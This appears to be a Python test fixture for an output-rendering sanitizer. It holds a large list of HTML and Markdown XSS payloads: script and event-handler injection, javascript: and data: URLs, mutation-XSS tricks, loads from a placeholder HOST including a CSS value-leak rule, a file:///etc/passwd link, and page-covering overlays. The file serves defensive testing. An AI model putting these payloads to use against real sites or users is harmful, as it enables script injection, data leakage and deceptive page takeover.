"""Attacks on the page that shows an output, and outputs that must still look right. `HOST` is a server of the test's."""

# Each must neither run a script, nor load anything, nor cover or restyle the page.
HTML = """
<script>alert(1)</script>
<SCRIPT SRC=http://HOST/a.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script
>alert(1)</script
>
<script type=module>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=http://HOST/a.png>
<img srcset="http://HOST/a.png 1x">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src=`x`onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img lowsrc=http://HOST/a dynsrc=http://HOST/b longdesc=http://HOST/c>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=http://HOST/a.js /></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=10>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<svg><set attributeName=onmouseover to=alert(1) /></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><image href=http://HOST/a.png /></svg>
<svg><use href=http://HOST/a.svg#b /></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x" /></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><style><img title="</style><img src=x onerror=alert(1)>"></style></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><filter id=f><feImage href=http://HOST/a.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>
<svg><rect fill="url(http://HOST/a#b)" width=9 height=9 /></svg>
<svg style="position:fixed;left:0;top:0;width:100vw;height:100vh"><rect width=100% height=100% /></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">click</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<template><img src=x onerror=alert(1)></template>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=http://HOST/frame></iframe>
<object data="javascript:alert(1)"></object>
<object data=http://HOST/o type=text/html></object>
<embed src=http://HOST/e.swf>
<applet code=x archive=http://HOST/a.jar></applet>
<frameset onload=alert(1)><frame src=http://HOST/f></frameset>
<video src=http://HOST/v onerror=alert(1) autoplay></video>
<audio src=http://HOST/a onerror=alert(1) autoplay></audio>
<video><source onerror=alert(1) src=http://HOST/s></video>
<video poster=http://HOST/p></video>
<input autofocus onfocus=alert(1)>
<input type=image src=http://HOST/i>
<select autofocus onfocus=alert(1)></select>
<keygen autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<form action=http://HOST/f><input type=submit id=go></form>
<form id=document><input name=body></form>
<isindex action=javascript:alert(1) type=image>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1) background=http://HOST/b>
<body style="display:none">
<html manifest=http://HOST/m onclick=alert(1)>
<head><base href=http://HOST/></head><a href=x>x</a>
<base href="javascript:/a/-alert(1)//"><a href=x>x</a>
<link rel=stylesheet href=http://HOST/s.css>
<link rel=prefetch href=http://HOST/p>
<link rel=import href=http://HOST/i>
<meta http-equiv=refresh content="0;url=http://HOST/r">
<meta http-equiv=Content-Security-Policy content="default-src 'none'">
<meta http-equiv=set-cookie content="a=b">
<bgsound src=http://HOST/b>
<table background=http://HOST/t><tr><td background=http://HOST/d>x</table>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="jAvAsCrIpT&colon;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="blob:http://HOST/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="/logout">x</a>
<a href="//HOST/a">x</a>
<a href=http://HOST/p ping=http://HOST/ping download>x</a>
<a href=# target=_top onclick=alert(1)>x</a>
<area href=javascript:alert(1) shape=default>
<map name=m><area href=javascript:alert(1)></map><img usemap=#m src=x>
<div style="background:url(http://HOST/b)">x</div>
<div style="background:\\75rl(http://HOST/b)">x</div>
<div style="background:u/**/rl(http://HOST/b)">x</div>
<div style="background-image:image-set('http://HOST/b' 1x)">x</div>
<div style="background:-webkit-image-set(url(http://HOST/b) 1x)">x</div>
<div style="background:cross-fade(url(http://HOST/b),red)">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="-moz-binding:url(http://HOST/x.xml#a)">x</div>
<div style="behavior:url(http://HOST/x.htc)">x</div>
<div style="--a:url(http://HOST/v);background:var(--a)">x</div>
<div style="list-style-image:url(http://HOST/l)">x</div>
<div style="cursor:url(http://HOST/c),auto">x</div>
<div style="content:url(http://HOST/c)">x</div>
<div style="filter:url(http://HOST/f#a)">x</div>
<div style="mask:url(http://HOST/m#a)">x</div>
<div style="position:fixed;inset:0;background:red;z-index:99999">x</div>
<div style="position:absolute;left:0;top:0;width:9999px;height:9999px;background:red">x</div>
<div style="margin:-9999px;padding:9999px;background:red">x</div>
<div style="margin:calc(0px - 9999px);width:20000px;height:20000px;background:red">x</div>
<div style="box-shadow:0 0 0 9999px red">x</div>
<div style="outline:9999px solid red">x</div>
<div style="transform:scale(999);background:red">x</div>
<div style="font-size:9999px;line-height:0">&#9608;</div>
<div style="text-shadow:0 0 99px red,500px 0 red;letter-spacing:-900px">xxxxxxxxx</div>
<div style="float:left;width:9999px;height:9999px;background:red">x</div>
<style>@import "http://HOST/i.css";</style>
<style>@import url(http://HOST/i.css);</style>
<style>@font-face{font-family:a;src:url(http://HOST/f)} div{font-family:a}</style>
<style>@namespace url(http://HOST/n); @charset "x";</style>
<style>body{display:none} *{color:red !important} html{visibility:hidden}</style>
<style>.guard,#guard{display:none !important}</style>
<style>:root{display:none} body:has(.x){display:none} :not(.x){display:none}</style>
<style>input[value^=a]{background:url(http://HOST/leak)}</style>
<style>.x,body{display:none}</style>
<style>.x{}body{display:none}</style>
<style>.x{color:red}}body{display:none}</style>
<style>.x{color:"}body{display:none}/*"}</style>
<style>/*</style><img src=x onerror=alert(1)>*/</style>
<style>.x{content:"</style><img src=x onerror=alert(1)>"}</style>
<style>.x{content:'\\3c/style>\\3cimg src=x onerror=alert(1)>'}</style>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<style>@media screen{body{display:none}} @supports(a:b){body{display:none}}</style>
<style>@keyframes k{from{background:url(http://HOST/k)}} div{animation:k 1s}</style>
<style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style>
<style>.x{background:url("http://HOST/a")}</style>
<style>.x{background:URL( http://HOST/a )}</style>
<style>~ div,+ div,> div,.x ~ *{display:none}</style>
<div class="jp-Dialog modal-backdrop fixed inset-0 lm-Widget guard">x</div>
<div data-commandlinker-command="terminal:create-new">x</div>
<div id=guard class=guard>x</div>
<img name=getElementById><form name=querySelector></form>
<a id=defaultView href=x></a><a id=alert href=x></a>
<p title="</p><img src=x onerror=alert(1)>">x</p>
<p title='"><img src=x onerror=alert(1)>'>x</p>
<p title="`><img src=x onerror=alert(1)>">x</p>
<p/onclick=alert(1)//>x
<p onclick
=alert(1)>x</p>
<p ONMOUSEOVER=alert(1) x:onclick=alert(1)>x</p>
<a b="x\x00y" on\x00error=alert(1) href="java\x00script:alert(1)">x</a>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=alert(1)>
<!DOCTYPE html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;
<%<img src=x onerror=alert(1)>%>
</div></div></body></html><img src=x onerror=alert(1)><style>body{display:none}</style>
<table><td><table></table></td><img src=x onerror=alert(1)></table>
<option><style></option></select><b><img src=x onerror=alert(1)></b></style></option>
<custom-element onfoo=1><slot name=x onslotchange=alert(1)></custom-element>
<x is=script>alert(1)</x>
<dialog open onclose=alert(1) style="inset:0;position:fixed">x</dialog>
<div popover id=p style="inset:0">x</div><button popovertarget=p>x</button>
<div contenteditable autofocus onfocus=alert(1)>x</div>
<div hidden=until-found onbeforematch=alert(1)>x</div>
<portal src=http://HOST/p onload=alert(1)>
<div style="position:absolute;top:-999px;left:-999px;width:9999px;height:9999px;z-index:99999;background:red">x</div>
<div style="position:sticky;top:0;height:9999px;width:9999px;z-index:99999;background:red;transform:translate(-500px,-500px) scale(9)">x</div>
<div style="box-shadow:0 0 0 9999px red;outline:9999px solid red;outline-offset:999px">x</div>
<style>:root,body,html{position:absolute;top:0;left:0;width:9999px;height:9999px;z-index:9;display:inline;overflow:visible;contain:none;transform:none;color:red}p{position:fixed;inset:0;z-index:9}</style><p>x
<style>*{position:absolute!important;inset:-9999px!important;z-index:2147483647!important;background:red!important;width:99999px;height:99999px}</style><b>x</b>
<div style="display:contents"><div style="position:absolute;inset:-9999px;background:red;z-index:9">x</div></div>
<input type=checkbox autofocus onfocus=alert(1) onchange=alert(1) formaction=javascript:alert(1) form=own id=own name=own><label for=own onclick=alert(1)>own</label>
<input type="checkbox\t" onfocus=alert(1) autofocus><input type=image src=http://HOST/i onerror=alert(1)><input type=text value=x>
<label for=guard accesskey=x>x</label><a aria-controls=guard role=tab data-commandlinker-command=x href=#guard>x</a>
<audio autoplay controls onplay=alert(1) src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAIA+AAACABAAZGF0YQAAAAA="></audio>
<video src="data:video/mp4;base64,AAAAHGZ0eXBpc29tAAACAGlzb21pc28ybXA0MQ==" poster=http://HOST/p><source src=http://HOST/v onerror=alert(1)><track src=http://HOST/t></video>
<video><source src="data:text/html;base64,PHNjcmlwdD4="></video><audio src=data:audio/wav,x onerror=alert(1)>
<link rel=icon href=http://HOST/favicon.ico>
""".strip("\n")

MARKDOWN = """
[a](javascript:alert(1))
[a](JaVaScRiPt:alert(1))
[a]( javascript:alert(1))
[a](<javascript:alert(1)>)
[a](java&#115;cript:alert(1))
[a](javascript&colon;alert(1))
[a](\\\\javascript:alert(1))
[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[a](vbscript:x "t")
[a](x 'onclick=alert(1)')
![a](http://HOST/a.png)
![a](x"onerror="alert(1))
![a][r]
[r]: http://HOST/r.png
[j][jj]
[jj]: javascript:alert(1)
[jj]:javascript:alert(1)
[jj]:
[a][b]<script>alert(1)</script>
<javascript:alert(1)>
<a href="javascript:alert(1)">x</a>
<img src=x onerror=alert(1)>
`<img src=x onerror=alert(1)>
``<img src=x onerror=alert(1)>`
\\`<img src=x onerror=alert(1)>\\`
~~~<img src=x onerror=alert(1)>
\t<img src=x onerror=alert(1)>
> <img src=x onerror=alert(1)>
- <style>body{display:none}</style>
| a |\\n|---|\\n| <img src=x onerror=alert(1)> |
<!-- --><img src=x onerror=alert(1)>
$\\href{javascript:alert(1)}{x}$
&lt;img src=x onerror=alert(1)&gt;
[![](x)](javascript:alert(1))
[a](http://HOST"onclick="alert(1))
http://HOST/a"onmouseover="alert(1)
""".strip("\n")


def html():
    """A list: lines that belong together are one vector."""
    found, held = [], ""
    for line in HTML.split("\n"):
        held = held + "\n" + line if held else line
        if not held.endswith(("<script", "</script", "<p onclick")) and not held.endswith("<script\n>alert(1)</script"):
            found.append(held)
            held = ""
    return found


def markdown():
    return MARKDOWN.split("\n") + ["```\n<img src=x onerror=alert(1)>\n``` \n<img src=x onerror=alert(1)>",
                                   "~~~\n```\n~~~\n<img src=x onerror=alert(1)>",
                                   "    ```\n<img src=x onerror=alert(1)>\n    ```",
                                   "`a\n\n<img src=x onerror=alert(1)>\n\nb`", "[a\n](javascript:alert(1))",
                                   "[a](\njavascript:alert(1))", "[r]:\njavascript:alert(1)\n\n[r]"]
